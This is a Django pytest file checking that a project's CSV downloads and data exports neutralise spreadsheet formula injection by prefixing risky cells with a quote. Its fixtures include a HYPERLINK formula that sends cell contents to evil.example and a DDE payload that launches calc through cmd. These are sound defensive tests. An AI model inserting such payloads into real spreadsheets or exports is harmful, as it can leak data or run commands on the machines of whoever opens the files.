"""CSV formula injection (OWASP): a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is run as a formula by spreadsheets. Every CSV the project writes prefixes such
text cells with a single quote; numbers the code itself writes stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from committee.public import opendata
from committee.public.opendata import COLLECTIONS
from tests import factories as f

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
TRIGGERS = {
    "reason": FORMULA,
    "text_es": "+SUM(1+1)",
    "text_fr": "-2+3",
    "text_en": "@SUM(A1:A9)",
    "text_ar": "\t=1+1",
}


@pytest.fixture
def hostile(world):
    return f.RecommendationFactory(
        reference="SEM2-2014-R77",
        status_reason=TRIGGERS["reason"],
        text_es=TRIGGERS["text_es"],
        text_fr=TRIGGERS["text_fr"],
        text_en=TRIGGERS["text_en"],
        text_ar=TRIGGERS["text_ar"],
        body=world["committee"],
    )


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def served(client, url: str) -> str:
    return b"".join(client.get(url).streaming_content).decode()


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    row = next(r for r in rows if r["reference"] == "SEM2-2014-R77")
    assert row["status_reason"] == "'" + FORMULA
    assert row["text_es"] == "'+SUM(1+1)"
    assert row["text_fr"] == "'-2+3"
    assert row["text_en"] == "'@SUM(A1:A9)"
    assert row["text_ar"] == "'\t=1+1"
    for each in rows:  # numbers the code writes are left as they are
        assert int(each["id"]) > 0
        for value in each.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_list_download_neutralises_formulas(client, hostile):
    assert_neutralised(rows_of(served(client, "/es/recommendations/download.csv")))


def test_the_open_data_csv_neutralises_formulas(client, hostile):
    assert_neutralised(rows_of(served(client, "/data/recommendations.csv")))


def test_the_export_command_neutralises_formulas(hostile, tmp_path):
    call_command("export_data", "--format", "csv", "--output", str(tmp_path), verbosity=0)
    text = (tmp_path / "recommendations.csv").read_text(encoding="utf-8")
    assert_neutralised(rows_of(text))
    out = io.StringIO()
    call_command("export_data", "--format", "csv", "--collection", "recommendations", stdout=out)
    assert_neutralised(rows_of(out.getvalue()))


def test_every_collection_is_neutralised(client, world):
    f.SourceDocumentFactory(title="=cmd|' /C calc'!A0", publisher="@evil")
    f.OrganizationFactory(acronym="-DGSN", name_es="\rname")
    for name in COLLECTIONS:
        for row in rows_of(served(client, f"/data/{name}.csv")):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        ("a=b", "a=b"),
        (-1, -1),
        (3, 3),
        (2.5, 2.5),
        (True, True),
    ],
)
def test_only_strings_are_neutralised(value, written):
    assert opendata.csv_cell(value) == written
